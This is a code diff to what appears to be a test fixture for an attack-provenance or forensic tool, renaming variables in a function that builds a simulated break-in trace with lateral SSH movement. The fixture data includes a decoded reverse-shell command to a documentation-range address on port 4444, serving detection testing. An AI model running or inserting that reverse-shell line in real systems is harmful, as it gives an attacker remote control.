@@ -72,8 +72,8 @@ def break_in() -> Trace:
     c2 = make.peer(1310, "198.51.100.45", 4444)
     pipe = make.node(EntityKind.PIPE, 1400, type="pipe")
     tar = make.process(1500, 7120, "tar xz", uid=0, user="root")
-    here = make.peer(1600, "10.0.0.20", 22)
-    there = make.peer(1601, "10.0.0.10", 50022, host="db01")
+    server_end = make.peer(1600, "10.0.0.20", 22)
+    client_end = make.peer(1601, "10.0.0.10", 50022, host="db01")
     sshd = make.process(1590, 880, "sshd: deploy", host="db01", observed_only=True)
     accepted = make.flow(FlowKind.ACCEPTED, visitor, java, 500)
     make.flow(FlowKind.LOADED, jar, java, -9000)
@@ -91,9 +91,11 @@ def break_in() -> Trace:
     make.flow(FlowKind.SPAWNED, shell, tar, 1500)
     make.flow(FlowKind.PIPED, shell, pipe, 1500)
     make.flow(FlowKind.PIPED, pipe, tar, 1500)
-    make.flow(FlowKind.CONNECTED, tar, here, 1600)
-    reached = make.flow(FlowKind.REACHED, here, there, 1600, confidence=0.9, detail={"reason": "ports agree"})
-    make.flow(FlowKind.ACCEPTED, there, sshd, 1601)
+    make.flow(FlowKind.CONNECTED, tar, server_end, 1600)
+    reached = make.flow(
+        FlowKind.REACHED, server_end, client_end, 1600, confidence=0.9, detail={"reason": "ports agree"}
+    )
+    make.flow(FlowKind.ACCEPTED, client_end, sshd, 1601)
     bound = make.bounds[visitor]
     return Trace(
         make.slice(Direction.BACKWARD, shell),
@@ -133,11 +135,11 @@ def break_in() -> Trace:
                 "tar xz",
                 account="root",
                 times=35,
-                until=make.bounds[there],
+                until=make.bounds[client_end],
                 rank=2,
             ),
         ),
-        (HostReached("web01", bound, ()), HostReached("db01", make.bounds[there], (reached,))),
+        (HostReached("web01", bound, ()), HostReached("db01", make.bounds[client_end], (reached,))),
         (Decoded(bash, "base64", "bash -i >& /dev/tcp/198.51.100.45/4444"),),
         (Blind("web01", at_ms(BEGIN), at_ms(BEGIN + 700), "12 records were lost: any flow may be missing"),),
     )
